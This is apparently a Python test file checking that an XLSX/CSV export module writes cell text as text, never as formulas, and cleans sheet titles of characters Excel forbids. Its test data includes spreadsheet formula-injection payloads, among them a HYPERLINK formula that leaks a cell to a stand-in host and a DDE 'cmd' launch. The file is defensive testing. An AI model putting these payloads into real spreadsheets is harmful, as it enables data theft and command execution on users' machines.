"""`chanye.export`: XLSX for analysts, never a formula written from data (formula injection)."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from chanye.export import write_frame, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
]


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": [*HOSTILE, "示例甲公司"], "revenue": [1.5, -2.0, 0.0, 3, 4, None]})
    path = write_xlsx({"企业": frame}, tmp_path / "out.xlsx", notes={"企业": "单位：万元；示例数据"})
    sheet = load_workbook(path)["企业"]
    assert sheet["A1"].value == "单位：万元；示例数据"
    assert [c.value for c in sheet[2]] == ["name", "revenue"]
    names = [sheet.cell(row=r, column=1) for r in range(3, 9)]
    assert [c.value for c in names] == [*HOSTILE, "示例甲公司"]
    assert [c.data_type for c in names] == ["s"] * 6  # no cell is a formula ('f')
    assert [c.quotePrefix for c in names] == [True, True, False, False, False, False]
    assert [sheet.cell(row=r, column=2).value for r in range(3, 9)] == [1.5, -2, 0, 3, 4, None]
    # and in the file itself: no <f> element anywhere
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    assert "=cmd|' /C calc'!A0" in xml


def test_csv_text_cells_cannot_start_a_formula(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": [*HOSTILE, "示例甲公司", None], "revenue": [1.5, -2.0, 0.0, 3, 4, None, 7]})
    path = write_frame(frame, tmp_path / "out.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the UTF-8 Chinese
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["name"].tolist()[:6] == ["'" + h for h in HOSTILE] + ["示例甲公司"]
    assert pd.isna(back["name"].iloc[6])
    assert back["revenue"].tolist()[:5] == [1.5, -2.0, 0.0, 3.0, 4.0]  # numbers keep their sign
    assert frame["name"].iloc[0] == HOSTILE[0]  # the caller's frame is not changed


def test_sheet_titles_lose_the_characters_excel_forbids(tmp_path: Path) -> None:
    """An English table title such as "GB/T 4754 concordance" once failed the whole download (issue 10)."""
    frame = pd.DataFrame({"code": ["3611"]})
    path = write_xlsx({"GB/T 4754 concordance": frame, "a[b]:c*d?e\\f": frame, "x" * 40: frame},
                      tmp_path / "t.xlsx", notes={"GB/T 4754 concordance": "note"})
    book = load_workbook(path)
    assert book.sheetnames == ["GB-T 4754 concordance", "a-b--c-d-e-f", "x" * 31]
    assert book["GB-T 4754 concordance"]["A1"].value == "note"
